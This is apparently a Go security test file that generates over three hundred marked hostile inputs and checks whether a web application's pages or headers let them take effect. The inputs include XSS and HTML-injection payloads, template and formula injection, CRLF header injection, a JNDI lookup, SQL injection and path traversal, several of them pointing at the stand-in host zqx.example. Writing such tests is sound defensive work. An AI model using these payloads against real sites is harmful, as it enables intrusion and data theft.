package office_test

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// mark stands in every hostile string, and in no text of ours.
const mark = "zqx"

// hostileStrings are three hundred things that someone writes into a field to make the page do what she
// wants: scripts, templates, formulas, header lines, what turns the text around, and what is too long.
func hostileStrings() []string {
	var out []string
	for _, before := range []string{"", `">`, `'>`, `</title>`, `</textarea>`, `</script>`, `-->`, `]]>`, `</select>`, `\">`} {
		for _, tag := range []string{
			`<script>zqx()</script>`, `<script src=//zqx.example/x.js></script>`, `<img src=x onerror=zqx()>`, `<svg/onload=zqx()>`,
			`<zqx>`, `<zqx-a zqx=1>`, `<iframe src=javascript:zqx()>`, `<iframe srcdoc="<script>zqx()</script>">`, `<a href=javascript:zqx()>x</a>`,
			`<form action=//zqx.example><button>`, `<base href=//zqx.example/>`, `<meta http-equiv=refresh content="0;url=//zqx.example">`,
			`<link rel=stylesheet href=//zqx.example/x.css>`, `<style>*{background:url(//zqx.example)}</style>`, `<math><mtext><zqx>`,
			`<object data=//zqx.example>`, `<details open ontoggle=zqx()>`, `<input autofocus onfocus=zqx()>`, `<!--zqx`,
		} {
			out = append(out, before+tag)
		}
	}
	out = append(out,
		`" onmouseover=zqx() x="`, `' autofocus onfocus=zqx() '`, "` onload=zqx() `", `" style="background:url(//zqx.example)`, `x" zqx="1`,
		`" formaction="javascript:zqx()`, `"><zqx`, `zqx" class="zqx`, `javascript:zqx()`, `JaVaScRiPt:zqx()`, "java\tscript:zqx()", ` javascript:zqx()`,
		`data:text/html,<script>zqx()</script>`, `vbscript:zqx`, `//zqx.example`, `/\zqx.example`, `\\zqx.example`, `https:zqx.example`,
		`[x](javascript:zqx())`, `[x](JAVASCRIPT:zqx())`, `[x](data:text/html,zqx)`, `![x](//zqx.example/x.png)`, `<javascript:zqx()>`,
		`[x](/zqx" onclick="zqx())`, `**<zqx>**`, "`<zqx>`", `[<zqx>](/)`, `# <zqx>`, `- <img src=x onerror=zqx()>`, `&lt;zqx&gt;`, `&#60;zqx&#62;`,
		`&amp;lt;zqx>`, `\u003czqx\u003e`, `\x3czqx\x3e`, `%3Czqx%3E`, `+ADw-zqx+AD4-`, `<ſcript>zqx()</ſcript>`, `＜zqx＞`, `‹zqx›`, `<<zqx>>`, `<zqx//`,
		`{{.}}zqx`, `{{7*7}}zqx`, `{{printf "zqx"}}`, `{{template "zqx"}}`, `{{env "zqx"}}`, `${zqx}`, `#{zqx}`, `<%= zqx %>`, `{% zqx %}`, `{zqx.__class__}`,
		`%s%s%nzqx`, `%!d(zqx)`, `%[1]zqx`, `$(zqx)`, `${jndi:ldap://zqx.example}`, "`zqx`", `'; zqx; '`, `{token}zqx`,
		`=HYPERLINK("//zqx.example")`, `=1+1+zqx`, `+zqx`, `-zqx`, `@zqx`, `＝zqx`, `＋zqx`, "\tzqx", "\t=zqx", `=cmd|' /C zqx'!A0`, `"=zqx"`, `;=zqx`,
		"zqx\r\nSet-Cookie: zqx=1", "zqx\nX-Zqx: 1", "zqx\r\n\r\n<zqx>", `%0d%0aX-Zqx: 1`, "zqx\u560a\u560dX-Zqx:1", "zqx\u2028X", "zqx\u0085X", "zqx\rBcc: zqx@example.se",
		"zqx\u202egpj.exe", "\u2066zqx\u2069", "z\u200bzqx", "\ufeffzqx", "\x00zqx", "zqx\x00<zqx>", "\xff\xfezqx", "zqx\xc0\xbczqx\xc0\xbe", "\x1b[31mzqx", "\azqx\b",
		"zqx"+strings.Repeat("\u0301", 200), "zqx👩‍👩‍👧‍👦", "zqx"+strings.Repeat("å", 300), strings.Repeat("zqx ", 500), strings.Repeat("<", 300)+"zqx",
		`' OR 1=1 --zqx`, `'; DROP TABLE registrations;--zqx`, `zqx%' ESCAPE '`, `zqx_%`, `../../zqx`, `..\zqx`, `/etc/zqx%00.png`, `zqx|ls`, `-zqx --help`,
		`<zqx\tzqx=1>`, `<ZQX ZQX=1>`, `<p/zqx=1>`, `<a href="/zqx"onclick=zqx()>`, `<svg><script>zqx()</script></svg>`, `<template><zqx></template>`,
		`<noscript><p title="</noscript><zqx>">`, `<xmp><zqx></xmp>`, `<plaintext>zqx`, `<video src=//zqx.example>`, `<embed src=//zqx.example>`,
		`<button form=zqx formaction=//zqx.example>`, `<audio onerror=zqx() src=x>`, `<marquee onstart=zqx()>`, `<select><zqx></select>`,
	)
	return out
}

func TestHostile_strings(t *testing.T) {
	all := hostileStrings()
	for i, s := range all {
		if !strings.Contains(strings.ToLower(s), mark) && !strings.Contains(s, "z\u200bqx") {
			t.Errorf("string %d bears no mark: %q", i, s)
		}
		if slices.Index(all, s) != i {
			t.Errorf("string %d stands twice: %q", i, s)
		}
	}
	if len(all) < 300 {
		t.Errorf("there are %d strings", len(all))
	}
}

// harm is what hostile strings have brought about in an answer; none where they are text and nothing else.
func harm(r *response) []string {
	var out []string
	if r.StatusCode >= 500 && r.StatusCode != http.StatusServiceUnavailable {
		out = append(out, fmt.Sprintf("the answer is %d", r.StatusCode))
	}
	for name, values := range r.Header {
		if name == "X-Request-Id" { // a number of ours, in which any three letters may meet
			continue
		}
		for _, v := range values {
			if strings.Contains(strings.ToLower(name), mark) || (strings.Contains(v, mark) && !quoted(name, v)) {
				out = append(out, fmt.Sprintf("a header field %s: %s", name, v))
			}
		}
	}
	if r.page == nil {
		return out
	}
	letter := isLetter(r)
	for n := range r.page.Descendants() {
		switch n.Type {
		case html.CommentNode:
			if strings.Contains(n.Data, mark) {
				out = append(out, "a comment "+n.Data)
			}
		case html.ElementNode:
			out = append(out, harmOf(n, letter)...)
		case html.TextNode:
			if strings.Contains(n.Data, "49"+mark) {
				out = append(out, "a template was carried out")
			}
		}
	}
	return out
}

// quoted reports whether a header field may hold a part of what was typed: in an address of ours as a
// query, in the name of a file that is fetched.
func quoted(name, value string) bool {
	switch name {
	case "Location":
		u, err := url.Parse(value)
		return err == nil && u.Host == "" && !strings.Contains(u.Path, "<") && !strings.ContainsAny(value, "<>\"\r\n")
	case "Content-Disposition":
		return !strings.ContainsAny(value, "<>\r\n/\\")
	}
	return false
}

// isLetter reports whether an answer is the page in a letter, whose looks are written out and which may do
// nothing, load nothing and lead nowhere.
func isLetter(r *response) bool {
	policy := r.Header.Get("Content-Security-Policy")
	return strings.HasPrefix(policy, "default-src 'none'; style-src 'unsafe-inline';") && strings.HasSuffix(policy, "; sandbox")
}

func harmOf(n *html.Node, letter bool) []string {
	var out []string
	tell := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }
	if strings.Contains(n.Data, mark) {
		tell("an element <%s>", n.Data)
	}
	if text := textIn(n); (n.Data == "style" || (n.Data == "script" && attr(n, "type") != "application/ld+json")) && strings.TrimSpace(text) != "" && (!letter || n.Data != "style" || strings.Contains(text, mark)) {
		tell("a %s that says %.40q", n.Data, text)
	} else if n.Data == "script" && strings.Contains(text, "<"+mark) {
		tell("data with an element in it: %.80q", text)
	}
	for _, a := range n.Attr {
		switch {
		case letter && a.Key == "style" && !strings.Contains(a.Val, mark):
		case strings.Contains(a.Key, mark), strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc":
			tell("<%s %s=%q>", n.Data, a.Key, a.Val)
		case !strings.Contains(a.Val, mark):
		case slices.Contains([]string{"id", "for", "name", "class", "http-equiv", "rel", "type", "target", "method", "lang", "dir"}, a.Key):
			tell("<%s %s=%q>", n.Data, a.Key, a.Val)
		case slices.Contains([]string{"href", "src", "action", "formaction", "data", "srcset", "xlink:href", "poster", "ping", "cite", "manifest"}, a.Key):
			if !ourAddress(a.Val) {
				tell("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		case n.Data == "meta" && attr(n, "http-equiv") != "":
			tell("<meta %s=%q>", a.Key, a.Val)
		}
	}
	return out
}

// ourAddress reports whether an address that holds a part of what was typed leads to a page of ours, or to
// a letter or a call.
func ourAddress(s string) bool {
	u, err := url.Parse(strings.TrimPrefix(s, base))
	if err != nil {
		return false
	}
	switch u.Scheme {
	case "mailto", "tel":
		return true
	case "":
		return u.Host == "" && strings.HasPrefix(u.Path, "/") && !strings.HasPrefix(u.Path, "/\\")
	}
	return false
}

func textIn(n *html.Node) string {
	var b strings.Builder
	for c := range n.ChildNodes() {
		if c.Type == html.TextNode {
			b.WriteString(c.Data)
		}
	}
	return b.String()
}

func TestHarm_isFound(t *testing.T) {
	for _, page := range []string{
		`<p><zqx>`, `<img src=x onerror=zqx()>`, `<a href="javascript:zqx()">`, `<a href="//zqx.example">`, `<form action="https://zqx.example/">`,
		`<script>zqx()</script>`, `<style>zqx</style>`, `<!--zqx-->`, `<p zqx=1>`, `<p class="zqx">`, `<p style="x">`, `<meta http-equiv=refresh content="0;url=zqx">`,
		`<p>49zqx</p>`, `<a href="/\zqx.example">`, `<a href="data:text/html,zqx">`, `<script type="application/ld+json"><zqx></script>`,
	} {
		node, err := html.Parse(strings.NewReader(page))
		must(t, err)
		if len(harm(&response{Response: &http.Response{StatusCode: 200}, page: node})) == 0 {
			t.Errorf("%s is not found", page)
		}
	}
	node, err := html.Parse(strings.NewReader(`<p title="&lt;zqx>">&lt;zqx><input name=a value="zqx"><a href="/?q=%3Czqx%3E">`))
	must(t, err)
	if found := harm(&response{Response: &http.Response{StatusCode: 200}, page: node}); len(found) > 0 {
		t.Errorf("text is taken for harm: %v", found)
	}
}
